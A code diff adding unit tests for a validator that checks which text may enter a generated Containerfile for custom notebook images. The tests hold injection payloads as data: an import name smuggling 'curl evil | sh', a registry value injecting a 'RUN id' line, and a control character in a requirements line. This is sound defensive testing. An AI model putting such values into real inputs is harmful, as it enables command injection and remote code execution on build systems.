@@ -125,3 +125,29 @@ def test_a_missing_base_tag_names_the_stream_the_tag_and_the_tags_available():
     assert "status.tags has: 2024.2, 2025.1" in msg
     assert "custom_notebook_base_tag" in msg
     assert caught.value.details["available_tags"] == ["2024.2", "2025.1"]
+
+
+def _containerfile_input(**image):
+    return {"custom_notebook_registry": "image-registry.openshift-image-registry.svc:5000",
+            "custom_notebook_base_namespace": "redhat-ods-applications",
+            "custom_notebook_images": [dict({"name": "lightgbm", "python_imports": ["lightgbm"],
+                                             "requirements": "lightgbm==3.3.5\n"}, **image)]}
+
+
+def test_what_enters_the_containerfile_as_text_fits_a_strict_grammar():
+    assert notebooks.containerfile_problems(_containerfile_input()) == []
+    assert notebooks.containerfile_problems(_containerfile_input(
+        python_imports=["sklearn.ensemble", "_private"])) == []
+    problems = notebooks.containerfile_problems(_containerfile_input(
+        python_imports=["lightgbm' && curl evil | sh && python3 -c 'import os", "1abc"],
+        requirements="lightgbm==3.3.5\nnumpy==1.0\x00\n"))
+    assert len(problems) == 3, problems
+    assert problems[0].startswith("custom_notebook_images[0] (lightgbm): python_imports[0] ")
+    assert "python_imports[1] '1abc'" in problems[1]
+    assert "requirements line 2 holds a control character" in problems[2]
+    bad = dict(_containerfile_input(), custom_notebook_registry="registry.example.com\nRUN id",
+               custom_notebook_base_namespace="Bad Namespace")
+    problems = notebooks.containerfile_problems(bad)
+    assert problems[0].startswith("custom_notebook_registry 'registry.example.com\\nRUN id' is "
+                                  "not a registry")
+    assert problems[1].startswith("custom_notebook_base_namespace: namespace 'Bad Namespace'")
